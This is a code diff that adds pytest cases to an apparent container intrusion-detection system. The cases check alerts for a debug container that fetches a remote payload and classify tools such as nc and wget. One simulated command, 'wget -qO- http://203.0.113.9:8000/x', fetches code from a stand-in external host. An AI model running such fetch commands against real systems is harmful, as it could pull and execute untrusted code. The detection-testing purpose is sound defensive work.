@@ -1,5 +1,6 @@
 """What real deployments do: none of it may wake anybody."""
 
+import pytest
 from detection.cluster import CART, Cluster, alerts, analyse
 from peerwatch.columns import ProcessFlag
 from peerwatch.subjects import ContainerKind
@@ -95,6 +96,34 @@ def test_a_person_who_brings_tools_is_an_alert(cluster: Cluster) -> None:
     (alert,) = alerts(analyse(cluster, until=300))
 
     assert alert.behaviours[0].key == "/usr/bin/nc <- /usr/bin/bash"
+
+
+@pytest.mark.parametrize("at", [101.0, 130.0, 600.0])
+def test_what_is_fetched_into_a_debug_container_is_told_from_its_first_second_on(cluster: Cluster, at: float) -> None:
+    cluster.normal(cluster.pods(4), 0, 700)
+    (debug,) = cluster.pods(1, kind=ContainerKind.EPHEMERAL, container="debugger-x")
+    shell = cluster.exec(100, debug, "/bin/busybox", parent="", args=("sh",))
+    url = ("wget", "-qO-", "http://203.0.113.9:8000/x")
+    cluster.exec(at, debug, "/bin/busybox", parent="/bin/busybox", args=url, parent_pid=shell)
+    cluster.connect(at + 0.1, debug, "/bin/busybox", ("203.0.113.9", 8000))
+
+    (alert,) = alerts(analyse(cluster, until=700))
+
+    assert "in the debug container debugger-x" in alert.reason
+    assert alert.time - alert.first_event < 2_000_000_000
+
+
+@pytest.mark.parametrize("tool", ["ps", "netstat", "nslookup", "nc", "wget"])
+def test_what_people_bring_a_debug_container_for_is_a_note(cluster: Cluster, tool: str) -> None:
+    cluster.normal(cluster.pods(4), 0, 700)
+    (debug,) = cluster.pods(1, kind=ContainerKind.EPHEMERAL, container="debugger-x")
+    shell = cluster.exec(100, debug, "/bin/busybox", parent="", args=("sh",))
+    cluster.exec(130, debug, "/bin/busybox", parent="/bin/busybox", args=(tool, "10.0.0.7", "8080"), parent_pid=shell)
+    cluster.connect(130.1, debug, "/bin/busybox", ("10.0.0.7", 8080))
+
+    told = analyse(cluster, until=700)
+
+    assert {each.severity for each in told} == {Severity.INFO}
 
 
 def test_an_ephemeral_debug_container_is_a_note_and_no_part_of_the_application(cluster: Cluster) -> None:
